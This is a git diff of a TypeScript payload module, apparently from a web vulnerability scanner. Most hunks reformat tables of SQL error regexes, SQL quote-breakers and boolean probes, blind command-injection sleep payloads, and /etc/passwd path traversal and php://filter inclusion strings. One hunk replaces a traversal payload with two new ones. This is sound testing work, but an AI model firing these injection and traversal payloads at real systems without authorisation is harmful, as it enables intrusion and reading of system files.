@@ -8,14 +8,42 @@
 
 /** Database error messages, per database (an error page that shows one proves the input reached SQL text). */
 export const SQL_ERRORS: ReadonlyArray<{ database: string; pattern: RegExp }> = [
-  { database: 'MySQL/MariaDB', pattern: /You have an error in your SQL syntax|check the manual that (?:corresponds|fits) to your (?:MySQL|MariaDB)/i },
-  { database: 'MySQL/MariaDB', pattern: /Warning: mysqli?_[a-z_]+\(\)|mysqli_sql_exception|MySqlException|com\.mysql\.jdbc|Unclosed quotation mark after the character string|SQLSTATE\[42000\]/i },
+  {
+    database: 'MySQL/MariaDB',
+    pattern:
+      /You have an error in your SQL syntax|check the manual that (?:corresponds|fits) to your (?:MySQL|MariaDB)/i,
+  },
+  {
+    database: 'MySQL/MariaDB',
+    pattern:
+      /Warning: mysqli?_[a-z_]+\(\)|mysqli_sql_exception|MySqlException|com\.mysql\.jdbc|Unclosed quotation mark after the character string|SQLSTATE\[42000\]/i,
+  },
   { database: 'MySQL/MariaDB', pattern: /Unknown column '[^']+' in '(?:where|field list|order) clause'/i },
-  { database: 'PostgreSQL', pattern: /syntax error at or near "|unterminated quoted string at or near|unterminated quoted identifier at or near/i },
-  { database: 'PostgreSQL', pattern: /pg_query\(\): Query failed|PSQLException|PG::SyntaxError|org\.postgresql\.util|ERROR:\s+syntax error at end of input/i },
-  { database: 'SQLite', pattern: /SQLite3?::(?:query|exec)|SQLITE_ERROR|sqlite3\.OperationalError|near "[^"]*": syntax error|unrecognized token: "/i },
-  { database: 'Microsoft SQL Server', pattern: /Microsoft OLE DB Provider for SQL Server|\[SQL Server\]|ODBC SQL Server Driver|SqlException|Incorrect syntax near '|Unclosed quotation mark after/i },
-  { database: 'Oracle', pattern: /\bORA-0(?:0933|0921|1756|0936|1740)\b|Oracle error|quoted string not properly terminated|oracle\.jdbc/i },
+  {
+    database: 'PostgreSQL',
+    pattern:
+      /syntax error at or near "|unterminated quoted string at or near|unterminated quoted identifier at or near/i,
+  },
+  {
+    database: 'PostgreSQL',
+    pattern:
+      /pg_query\(\): Query failed|PSQLException|PG::SyntaxError|org\.postgresql\.util|ERROR:\s+syntax error at end of input/i,
+  },
+  {
+    database: 'SQLite',
+    pattern:
+      /SQLite3?::(?:query|exec)|SQLITE_ERROR|sqlite3\.OperationalError|near "[^"]*": syntax error|unrecognized token: "/i,
+  },
+  {
+    database: 'Microsoft SQL Server',
+    pattern:
+      /Microsoft OLE DB Provider for SQL Server|\[SQL Server\]|ODBC SQL Server Driver|SqlException|Incorrect syntax near '|Unclosed quotation mark after/i,
+  },
+  {
+    database: 'Oracle',
+    pattern:
+      /\bORA-0(?:0933|0921|1756|0936|1740)\b|Oracle error|quoted string not properly terminated|oracle\.jdbc/i,
+  },
 ];
 
 /** What breaks SQL text: a lone quote of each kind, a backslash, a parenthesis. */
@@ -25,7 +53,10 @@ export const SQL_BREAKERS: readonly string[] = ["{v}'", '{v}"', "{v}')", '{v}\\'
  * Boolean pairs: the true one must answer like the original, the false one differently; a
  * second pair of another form confirms. Quote contexts first, then numeric.
  */
-export const SQL_BOOLEAN_PAIRS: ReadonlyArray<{ context: string; proofs: ReadonlyArray<readonly [string, string]> }> = [
+export const SQL_BOOLEAN_PAIRS: ReadonlyArray<{
+  context: string;
+  proofs: ReadonlyArray<readonly [string, string]>;
+}> = [
   {
     context: 'quoted string',
     proofs: [
@@ -73,14 +104,21 @@ export const COMMAND_ECHOES: readonly string[] = [
 ];
 
 /** Blind command payloads: `sleep {d}`, proven twice against a baseline. */
-export const COMMAND_DELAYS: readonly string[] = [';sleep {d}', '|sleep {d}', '$(sleep {d})', '`sleep {d}`', '\nsleep {d}'];
+export const COMMAND_DELAYS: readonly string[] = [
+  ';sleep {d}',
+  '|sleep {d}',
+  '$(sleep {d})',
+  '`sleep {d}`',
+  '\nsleep {d}',
+];
 
 /** Files every Unix host has, and what proves they were read. */
 export const TRAVERSAL_PAYLOADS: ReadonlyArray<{ payload: string; inclusion?: true; base64?: true }> = [
   { payload: '/etc/passwd' },
   { payload: '../../../../../../../../../../etc/passwd' },
   { payload: '....//....//....//....//....//....//....//....//etc/passwd' },
-  { payload: '..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
+  { payload: '..//..//..//..//..//..//..//..//..//..//etc//passwd' },
+  { payload: './../../../../../../../../../../etc/passwd' },
   { payload: '/etc/./passwd' },
   { payload: 'file:///etc/passwd', inclusion: true },
   { payload: 'php://filter/convert.base64-encode/resource=/etc/passwd', inclusion: true, base64: true },
@@ -114,7 +152,10 @@ export const XSS_PAYLOADS: Readonly<Record<'element' | 'attribute' | 'script', r
 };
 
 /** Fills a payload's placeholders. */
-export function fill(template: string, values: { v?: string; m?: string; a?: number; b?: number; d?: number }): string {
+export function fill(
+  template: string,
+  values: { v?: string; m?: string; a?: number; b?: number; d?: number },
+): string {
   return template
     .replaceAll('{v}', values.v ?? '')
     .replaceAll('{m}', values.m ?? '')
